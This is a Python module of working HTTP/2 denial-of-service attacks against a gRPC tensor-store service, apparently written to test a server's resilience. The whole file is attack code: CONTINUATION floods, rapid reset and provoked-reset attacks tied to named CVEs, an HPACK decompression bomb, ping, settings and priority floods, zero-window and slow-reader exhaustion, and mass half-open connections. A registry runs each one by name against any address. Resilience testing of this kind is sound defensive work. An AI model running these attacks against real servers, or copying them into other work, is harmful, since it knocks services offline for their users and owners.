"""The attacks. Each takes an address and a time to end, goes on until then or until the server closes the connection, and returns
what it got done. `LIST` is a call that every server here knows; `BIG` streams megabytes."""
import itertools
import os
import struct
import time
from contextlib import ExitStack, suppress

import h2
from h2 import Closed, Peer

LIST = b"/tensord.v1.TensorStore/ListModels"
BIG = b"/tensord.v1.TensorStore/GetTensor"
BIG_REQUEST = h2.message(b"\x0a\x03big\x1a\x01t")  # model "big", tensor "t"
BATCH = 64  # Frames in one write.
NAMES = b"/tensord.v1.TensorStore/ListTensors"
NAMES_REQUEST = h2.message(b"\x0a\x04many\x30\x90\x4e")  # model "many", page_size 10,000
PLAN = b"/tensord.v1.TensorStore/GetTensors"
PLAN_REQUEST = h2.message(b"\x0a\x04many" + b"\x1a\x03\x12\x01*" * 100)  # model "many", 100 times pattern "*": a million results
REFLECTION = b"/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
REFLECTION_REQUEST = h2.message(b"\x22\x16tensord.v1.TensorStore")  # file_containing_symbol
HALF_REQUEST_BYTES = (4 << 20) - 100  # Just below the largest request.


class Result:
    def __init__(self):
        self.done, self.bytes_sent, self.closed_after = 0, 0, None

    def __str__(self):
        state = "open" if self.closed_after is None else f"closed after {self.closed_after:.2f} s"
        return f"{self.done} in {self.bytes_sent >> 10} KiB, {state}"


def flood(address, end, batches, limit=None, listen=True, **options):
    """Sends batches of (count, bytes) until the end, the limit of the count, or the close."""
    result, started = Result(), time.monotonic()
    with Peer(address, **options) as peer:
        try:
            for count, data in batches:
                peer.send(data)
                result.done += count
                if listen:
                    peer.drain()
                if time.monotonic() >= end or (limit is not None and result.done >= limit):
                    break
            if peer.is_closed(max(0.0, min(1.0, end - time.monotonic()))):
                raise Closed
        except Closed:
            result.closed_after = time.monotonic() - started
        except TimeoutError:
            pass  # The server reads no more, and keeps what it has.
        result.bytes_sent = peer.bytes_sent
    return result


def repeat(count, data):
    return itertools.repeat((count, data * count))


def streams(path=LIST):
    """Bytes that begin one call after the other: (stream, HEADERS frame)."""
    yield 1, h2.frame(h2.HEADERS, h2.END_HEADERS, 1, h2.call_headers(path, indexed=True))
    again = h2.call_again()
    for stream in itertools.count(3, 2):
        yield stream, h2.frame(h2.HEADERS, h2.END_HEADERS, stream, again)


def in_batches(pieces, size=BATCH):
    while batch := list(itertools.islice(pieces, size)):
        yield len(batch), b"".join(batch)


def continuation_flood(address, end):
    """A header block that never ends, a small field in each frame (CVE-2023-33953). Large frames gRPC refuses by itself."""
    first = h2.frame(h2.HEADERS, 0, 1, h2.call_headers(LIST))
    piece = h2.frame(h2.CONTINUATION, 0, 1, h2.literal(b"x", b"v" * 20))
    return flood(address, end, itertools.chain([(1, first)], repeat(4000, piece)))


def empty_continuations(address, end):
    """The same without content."""
    first = h2.frame(h2.HEADERS, 0, 1, h2.call_headers(LIST))
    return flood(address, end, itertools.chain([(1, first)], repeat(1000, h2.frame(h2.CONTINUATION, 0, 1))))


def hpack_string(address, end):
    """One header value of 1 GiB, which gRPC parses anew from its beginning with each frame."""
    start = h2.call_headers(LIST) + b"\x00" + h2.string(b"x") + h2.integer(1 << 30, 7)
    first = h2.frame(h2.HEADERS, 0, 1, start)
    piece = h2.frame(h2.CONTINUATION, 0, 1, b"v" * h2.MAX_FRAME_BYTES)
    return flood(address, end, itertools.chain([(1, first)], repeat(4, piece)))


def hpack_bomb(address, end):
    """A value of 4 KiB that is remembered once, and then named by one byte, 16,000 times a call."""
    def pieces():
        entry = h2.literal(b"x", b"v" * 4000, indexed=True)
        yield h2.frame(h2.HEADERS, h2.END_HEADERS, 1, h2.call_headers(LIST) + entry)
        bomb = h2.call_headers(LIST) + h2.index(h2.STATIC_ENTRIES + 1) * 16000
        for stream in itertools.count(3, 2):
            yield h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, stream, bomb)
    return flood(address, end, in_batches(pieces(), 4))


def rapid_reset(address, end, limit=40_000):
    """Calls that are cancelled as soon as they have begun (CVE-2023-44487)."""
    pieces = (begin + h2.rst(stream) for stream, begin in streams())
    return flood(address, end, in_batches(pieces, 500), limit=limit)


def rapid_reset_of_running_calls(address, end, limit=40_000):
    """The same of calls whose request has arrived, so that their answers are under way."""
    request = h2.message(b"")
    pieces = (begin + h2.frame(h2.DATA, h2.END_STREAM, stream, request) + h2.rst(stream)
              for stream, begin in streams())
    return flood(address, end, in_batches(pieces, 200), limit=limit)


def provoked_resets(address, end, limit=40_000):
    """Frames that are wrong for their stream, so that the server cancels the calls (CVE-2025-8671)."""
    overflow = struct.pack(">I", 0x7FFFFFFF)
    pieces = (begin + h2.frame(h2.WINDOW_UPDATE, 0, stream, overflow) for stream, begin in streams())
    return flood(address, end, in_batches(pieces, 500), limit=limit)


def stream_flood(address, end):
    """As many calls at once as go in, by a client that has not heard of the limit."""
    pieces = (begin for _, begin in streams())
    return flood(address, end, in_batches(pieces, 500), acknowledge=False)


def ping_flood(address, end):
    return flood(address, end, repeat(1000, h2.frame(h2.PING, 0, 0, b"12345678")))


def settings_flood(address, end):
    return flood(address, end, repeat(1000, h2.settings(initial_window_size=65535)))


def deaf_settings_flood(address, end):
    """The same by a client that does not read the answers."""
    return flood(address, end, repeat(1000, h2.frame(h2.SETTINGS)), listen=False)


def priority_flood(address, end):
    return flood(address, end, repeat(1000, h2.frame(h2.PRIORITY, 0, 1, struct.pack(">IB", 3, 16))))


def unknown_frames(address, end):
    return flood(address, end, repeat(1000, h2.frame(0x77, 0, 0)))


def empty_data(address, end):
    """A call whose request never comes."""
    first = h2.frame(h2.HEADERS, h2.END_HEADERS, 1, h2.call_headers(LIST))
    return flood(address, end, itertools.chain([(1, first)], repeat(1000, h2.frame(h2.DATA, 0, 1))))


def window_updates(address, end):
    """Nothing but permission to send more, and no call."""
    return flood(address, end, repeat(1000, h2.window_update(0, 1)))


def big_call(stream=1):
    return (h2.frame(h2.HEADERS, h2.END_HEADERS, stream, h2.call_headers(BIG)) +
            h2.frame(h2.DATA, h2.END_STREAM, stream, BIG_REQUEST))


def tiny_windows(address, end):
    """A reader that allows one byte at a time."""
    def pieces():
        yield 1, big_call()
        for _ in itertools.count():
            yield 50, h2.window_update(1, 1) * 50
    return flood(address, end, pieces(), initial_window_size=0)


def zero_window(address, end):
    """Readers that ask for much and allow nothing."""
    result = Result()
    with Peer(address, initial_window_size=0) as peer, suppress(Closed):
        for stream in range(1, 200, 2):
            peer.send(big_call(stream) if stream == 1 else h2.frame(
                h2.HEADERS, h2.END_HEADERS, stream, h2.call_headers(BIG)) + h2.frame(
                    h2.DATA, h2.END_STREAM, stream, BIG_REQUEST))
            result.done += 1
        time.sleep(max(0.0, end - time.monotonic()))
        result.bytes_sent = peer.bytes_sent
    return result


def window_overflow(address, end):
    """Windows beyond 2^31 - 1, on the connection and on its calls."""
    def pieces():
        yield 1, big_call()
        yield 1, h2.window_update(1, 0x7FFFFFFF) * 2
        yield 1, h2.window_update(0, 0x7FFFFFFF) * 2
        for _ in itertools.count():
            yield 1, h2.frame(h2.PING, 0, 0, b"12345678")
            time.sleep(0.05)
    return flood(address, end, pieces())


def slow_readers(address, end, count=60):
    """Many connections with open windows, none of which is read."""
    result = Result()
    with ExitStack() as stack, suppress(Closed, OSError):
        for _ in range(count):
            peer = stack.enter_context(Peer(address, receive_buffer=4096, initial_window_size=0x7FFFFFFF))
            peer.send(h2.window_update(0, 0x7FFFFFFF - 65535) + big_call())
            result.done += 1
            result.bytes_sent += peer.bytes_sent
        time.sleep(max(0.0, end - time.monotonic()))
    return result


def connection_flood(address, end, first_bytes=b""):
    """Dials as fast as it can and keeps what it gets, as far as its own descriptors reach."""
    result, kept = Result(), []
    try:
        while time.monotonic() < end:
            with suppress(OSError):
                sock = h2.dial(address, timeout=1)
                kept.append(sock)
                sock.sendall(first_bytes)
                result.done += 1
            if len(kept) > 400:
                for sock in kept[:200]:
                    sock.close()
                del kept[:200]
    finally:
        for sock in kept:
            sock.close()
    return result


def half_open(address, end):
    """Connections that never say a word."""
    return connection_flood(address, end)


def half_preface(address, end):
    """Connections that stop within the preface."""
    return connection_flood(address, end, h2.PREFACE[:10])


def half_frame(address, end):
    """Connections that stop within a frame."""
    return connection_flood(address, end, h2.PREFACE + h2.settings() + h2.frame(h2.HEADERS, 0, 1, b"x" * 100)[:50])


def reconnects(address, end):
    """As many cancelled calls as a connection may have, on one connection after the other."""
    result = Result()
    burst = b"".join(begin + h2.rst(stream) for stream, begin in itertools.islice(streams(), 900))
    while time.monotonic() < end:
        with suppress(OSError, Closed), Peer(address) as peer:
            peer.send(burst)
            result.done += 900
            result.bytes_sent += peer.bytes_sent
    return result


def connection_after_connection(address, end, burst, num_calls, **options):
    """Sends `burst`, which is of `num_calls` calls, waits until the server has read it all, closes, and so on."""
    result = Result()
    while time.monotonic() < end:
        with suppress(OSError, Closed), Peer(address, **options) as peer:
            peer.send(burst + h2.frame(h2.PING, 0, 0, b"12345678"))
            result.done += num_calls
            result.bytes_sent += peer.bytes_sent
            while peer.receive()[0] != h2.PING:
                pass
    return result


def reconnects_of_a_reader(address, end):
    """The same by one who waits until the server has read it all."""
    burst = b"".join(begin + h2.rst(stream) for stream, begin in itertools.islice(streams(), 900))
    return connection_after_connection(address, end, burst, 900)


def abandoned_calls(address, end):
    """As many calls as a connection may have, left by closing it, on one connection after the other."""
    burst = b"".join(begin for _, begin in itertools.islice(streams(), 1000))
    return connection_after_connection(address, end, burst, 1000, acknowledge=False)


def data_beyond_the_window(address, end):
    """A request that is larger than any window and any limit."""
    first = h2.frame(h2.HEADERS, h2.END_HEADERS, 1, h2.call_headers(LIST)) + h2.frame(
        h2.DATA, 0, 1, struct.pack(">BI", 0, 0xFFFFFFFF))
    piece = h2.frame(h2.DATA, 0, 1, os.urandom(h2.MAX_FRAME_BYTES))
    return flood(address, end, itertools.chain([(1, first)], repeat(4, piece)))


def unread_answers(address, end, path=NAMES, request=NAMES_REQUEST, num_connections=40, num_calls=100):
    """Calls on many connections, none of which allows a byte of answer."""
    result = Result()
    with ExitStack() as stack, suppress(Closed, OSError):
        for _ in range(num_connections):
            peer = stack.enter_context(Peer(address, initial_window_size=0))
            for stream in range(1, 2 * num_calls, 2):
                peer.send(h2.frame(h2.HEADERS, h2.END_HEADERS, stream, h2.call_headers(path)) +
                          h2.frame(h2.DATA, h2.END_STREAM, stream, request))
                peer.drain()
                result.done += 1
            result.bytes_sent += peer.bytes_sent
        time.sleep(max(0.0, end - time.monotonic()))
    return result


def unread_reflection(address, end):
    """The same with descriptions of the service."""
    return unread_answers(address, end, REFLECTION, REFLECTION_REQUEST)


def unread_plans(address, end):
    """The same with kilobytes that ask for a million results."""
    return unread_answers(address, end, PLAN, PLAN_REQUEST, num_connections=4, num_calls=10)


def half_requests(address, end):
    """Large requests on many connections that stop just before their end."""
    result, beginning = Result(), struct.pack(">BI", 0, HALF_REQUEST_BYTES + 1) + bytes(HALF_REQUEST_BYTES)
    with ExitStack() as stack, suppress(OSError):
        for _ in range(40):
            with suppress(Closed):
                peer = stack.enter_context(Peer(address, acknowledge=False))
                for stream in (1, 3):
                    peer.send(h2.frame(h2.HEADERS, h2.END_HEADERS, stream, h2.call_headers(LIST)))
                    peer.send_within_windows(stream, beginning)
                    result.done += 1
                    result.bytes_sent += len(beginning)
        time.sleep(max(0.0, end - time.monotonic()))
    return result


# By name.
ALL = {attack.__name__: attack for attack in (
    continuation_flood, empty_continuations, hpack_string, hpack_bomb, rapid_reset, rapid_reset_of_running_calls,
    provoked_resets, stream_flood, ping_flood, settings_flood, deaf_settings_flood, priority_flood, unknown_frames,
    empty_data, window_updates, tiny_windows, zero_window, window_overflow, slow_readers, half_open, half_preface,
    half_frame, reconnects, reconnects_of_a_reader, abandoned_calls, data_beyond_the_window, half_requests,
    unread_answers, unread_reflection, unread_plans)}
